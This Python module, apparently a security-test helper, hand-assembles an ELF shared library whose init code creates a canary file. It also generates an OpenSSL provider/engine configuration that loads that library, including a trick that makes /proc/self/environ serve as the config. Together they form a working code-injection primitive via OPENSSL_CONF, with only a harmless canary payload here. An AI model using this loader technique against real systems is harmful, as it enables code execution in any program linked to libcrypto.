"""A library that does its harm when it is loaded, and the configurations by which OpenSSL loads it.

``OPENSSL_CONF`` names a file that libcrypto reads before a program's first line, and that file names libraries (config(5) of
OpenSSL). So whoever chooses a variable's name, and has bytes in any two files of the machine, runs code in every program that
hashes. The library is written byte by byte, so that no compiler is needed: one segment, whose start-up function makes
``CANARY_FILE``.
"""

from __future__ import annotations

import platform
import struct

_PAGE, _LARGEST_PAGE = 0x1000, 0x10000
_HEADER, _SEGMENT, _SEGMENTS = 64, 56, 3
_DYNAMIC_AT = _HEADER + _SEGMENTS * _SEGMENT
_STRTAB, _SYMTAB, _STRSZ, _SYMENT, _INIT = 5, 6, 10, 11, 12  # elf.h: DT_*
_CREATE = 0o101  # fcntl.h: O_WRONLY | O_CREAT

# open(path, O_WRONLY | O_CREAT, 0644) and back, with the path right behind it.
_X86_64 = (
    b"\x48\x8d\x3d\x13\x00\x00\x00"  # lea rdi, [rip + 0x13]
    + b"\xbe" + struct.pack("<I", _CREATE)  # mov esi, flags
    + b"\xba" + struct.pack("<I", 0o644)  # mov edx, mode
    + b"\xb8\x02\x00\x00\x00"  # mov eax, 2: open
    + b"\x0f\x05\xc3\x90"  # syscall; ret
)  # fmt: skip
_AARCH64 = struct.pack(
    "<7I",
    0x92800C60,  # mov x0, -100: AT_FDCWD
    0x100000C1,  # adr x1, 24 bytes on
    0xD2800000 | _CREATE << 5 | 2,  # mov x2, flags
    0xD2800000 | 0o644 << 5 | 3,  # mov x3, mode
    0xD2800000 | 56 << 5 | 8,  # mov x8, 56: openat
    0xD4000001,  # svc 0
    0xD65F03C0,  # ret
)
_MACHINES = {"x86_64": (62, _X86_64), "aarch64": (183, _AARCH64)}
"""By the name that uname gives: ELF's number for it, and the code."""


def can_be_loaded() -> bool:
    """Whether there is a library for this machine."""
    return platform.system() == "Linux" and platform.machine() in _MACHINES


def library() -> bytes:
    """An ELF library that makes ``CANARY_FILE`` when it is loaded; on another machine than those two it is one for x86-64."""
    number, code = _MACHINES.get(platform.machine(), _MACHINES["x86_64"])
    start = _DYNAMIC_AT + 6 * 16
    dynamic = [(_STRTAB, 0), (_SYMTAB, 0), (_STRSZ, 1), (_SYMENT, 24), (_INIT, start), (0, 0)]
    ident = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    header = struct.pack("<HHIQQQIHHHHHH", 3, number, 1, 0, _HEADER, 0, 0, _HEADER, _SEGMENT, _SEGMENTS, 0, 0, 0)
    # The path at the end may be longer than the word in its place, so the segment is the whole page; zeros end it.
    segments = (
        _segment(1, 7, 0, _PAGE, _LARGEST_PAGE)  # PT_LOAD
        + _segment(2, 6, _DYNAMIC_AT, len(dynamic) * 16, 8)  # PT_DYNAMIC
        + _segment(0x6474E551, 6, 0, 0, 16)  # PT_GNU_STACK: not executable
    )
    return ident + header + segments + b"".join(struct.pack("<QQ", *entry) for entry in dynamic) + code + b"CANARY_FILE"


def _segment(kind: int, flags: int, at: int, size: int, align: int) -> bytes:
    return struct.pack("<IIQQQQQQ", kind, flags, at, at, at, size, size, align)


def configuration(library: str) -> str:
    """A configuration by which OpenSSL 3 (as a provider) and OpenSSL 1.1 (as an engine) load this library.

    It begins with two line ends, so that it can be a variable's value: what stands before it in ``/proc/self/environ`` ends there.
    """
    return (
        "\n\nopenssl_conf = start\n[start]\nproviders = all_providers\nengines = all_engines\n"
        "[all_providers]\nplanted = planted\n[all_engines]\nplanted = planted_engine\n"
        f"[planted]\nmodule = {library}\nactivate = 1\n"
        f"[planted_engine]\nengine_id = planted\ndynamic_path = {library}\ninit = 1\n"
    )
